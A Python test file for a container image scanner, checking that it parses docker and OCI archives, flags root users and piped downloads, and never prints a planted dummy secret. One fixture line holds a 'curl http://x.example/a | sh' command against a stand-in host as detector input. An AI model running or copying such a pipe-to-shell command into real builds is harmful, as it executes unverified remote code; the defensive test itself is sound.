"""Images at rest as targets: archives and layouts, made by hand and by the tools that people make them with."""
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import tempfile

import tap

SECRET = "hunter2-Xq9vT4"


def archive(path, history=(), config=None):
    """What `docker save` writes, of one image without layers."""
    text = json.dumps({"os": "linux", "architecture": "amd64", "config": config or {}, "rootfs": {"diff_ids": []},
                       "history": [{"created_by": line, "empty_layer": True} for line in history]}).encode()
    name = hashlib.sha256(text).hexdigest() + ".json"
    names = json.dumps([{"Config": name, "RepoTags": ["example.com/app:1"], "Layers": []}]).encode()
    with tarfile.open(path, "w") as tar:
        for member, data in ((name, text), ("manifest.json", names)):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def findings(*targets, cwd):
    report = json.loads(tap.run("scan", "-f", "json", *targets, cwd=cwd).stdout)
    return {finding["check"] for finding in report["findings"]}


def targets(t, folder):
    archive(os.path.join(folder, "app.tar"), ["RUN /bin/sh -c curl http://x.example/a | sh # buildkit"], {"User": "root"})
    for name in ("app.tar", "./app.tar", "docker-archive:app.tar", "docker-archive:app.tar:example.com/app:1"):
        t.ok({"image-runs-as-root", "download-piped-to-shell"} <= findings(name, cwd=folder), f"{name} is judged")
    t.same(tap.run("scan", "docker-archive:app.tar:2", cwd=folder).returncode, 2, "a tag that is not there ends with 2")
    t.same(tap.run("scan", "./docker-archive:app.tar", cwd=folder).returncode, 2, "./ makes it a path")
    with open(os.path.join(folder, "Dockerfile"), "w") as file:
        file.write("FROM example.com/app:1\n")
    dump = json.loads(tap.run("dump", "system", "Dockerfile", "app.tar", cwd=folder).stdout)
    user = {row["id"]: row["fields"]["user"] for row in dump["subjects"] if "user" in row["fields"]}
    t.ok(user["build:Dockerfile#final"]["known"], "an archive answers for a base", user)
    whole = open(os.path.join(folder, "app.tar"), "rb").read()
    for size in (0, 100, 512, 700, 1024, 1600):
        with open(os.path.join(folder, "cut.tar"), "wb") as file:
            file.write(whole[:size])
        status = tap.run("scan", "docker-archive:cut.tar", cwd=folder).returncode
        t.same(status, 2, f"an archive cut at {size} ends with 2")


def secrets(t, folder):
    archive(os.path.join(folder, "app.tar"), [f"ENV DB_PASSWORD={SECRET}", f"RUN |1 DB_TOKEN={SECRET} /bin/sh -c x # buildkit"],
            {"Env": [f"DB_PASSWORD={SECRET}"], "Cmd": ["/x", "--password", SECRET],
             "Healthcheck": {"Test": ["CMD-SHELL", f"curl -u a:{SECRET} localhost"]}})
    for command in (["scan", "-f", "json"], ["scan", "-f", "text"], ["scan", "-f", "html"], ["dump", "image"], ["dump", "system"]):
        result = tap.run(*command, "app.tar", cwd=folder)
        t.ok(SECRET not in result.stdout + result.stderr, f"{' '.join(command)} shows no secret of an image")


def tool(*command, cwd):
    subprocess.run(command, cwd=cwd, check=True, capture_output=True, timeout=60)


def real(t, folder):
    name = "what umoci and skopeo write is read"
    if not shutil.which("umoci") or not shutil.which("skopeo"):
        t.skip(name, "umoci and skopeo are not installed")
        return
    try:
        tool("umoci", "init", "--layout", "lay", cwd=folder)
        tool("umoci", "new", "--image", "lay:app", cwd=folder)
        tool("umoci", "config", "--image", "lay:app", "--config.user", "1000", "--config.exposedports", "80/tcp", cwd=folder)
        tool("skopeo", "copy", "oci:lay:app", "docker-archive:docker.tar:example.com/app:1", cwd=folder)
        tool("skopeo", "copy", "oci:lay:app", "oci-archive:oci.tar:example.com/app:1", cwd=folder)
    except (subprocess.SubprocessError, OSError) as error:
        t.skip(name, f"the tools do not run here: {error}")
        return
    for target in ("lay", "oci:lay:app", "docker.tar", "oci-archive:oci.tar:example.com/app:1"):
        result = tap.run("dump", "image", target, cwd=folder)
        image = json.loads(result.stdout or "{}")
        t.same((image.get("start", {}).get("user"), image.get("exposed")), ("1000", ["80/tcp"]), f"{name}: {target}")


def run(t):
    for case in (targets, secrets, real):
        with tempfile.TemporaryDirectory() as folder:
            case(t, folder)
